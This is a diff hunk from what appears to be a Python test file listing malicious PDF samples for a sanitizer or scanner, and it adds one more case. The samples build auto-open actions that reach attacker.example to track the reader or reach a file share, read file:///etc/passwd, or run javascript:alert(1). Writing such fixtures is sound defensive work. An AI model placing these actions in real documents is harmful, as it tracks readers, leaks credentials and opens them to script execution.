@@ -219,6 +219,7 @@ def _link(action: bytes) -> bytes:
     _with_catalog(b"/OpenAction << /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] /NewWindow true >> "),
     _with_catalog(b"/OpenAction << /S /URI /URI (javascript:alert(1)) >> "),
     _with_catalog(b"/OpenAction << /S /URI /URI (https://attacker.example/opened) >> "),  # phones home as opened
+    _with_catalog(b"/OpenAction << /D [3 0 R /Fit] /S /GoTo /Next << /S /URI /URI (https://attacker.example/) >> >> "),
     _with_catalog(b"/OpenAction 6 0 R ").replace(b"xref\n", b"6 0 obj\n<< /S /URI /URI (https://a.example/x) >>\nendobj\nxref\n", 1),
     _with_page(b"/AA << /O << /S /URI /URI (file://attacker.example/share/x) >> >> "),
     _with_page(b"/AA << /O << /S /Rendition /R << /C << /D << /FS /URL /F (http://attacker.example/track) >> >> >> >> >> "),
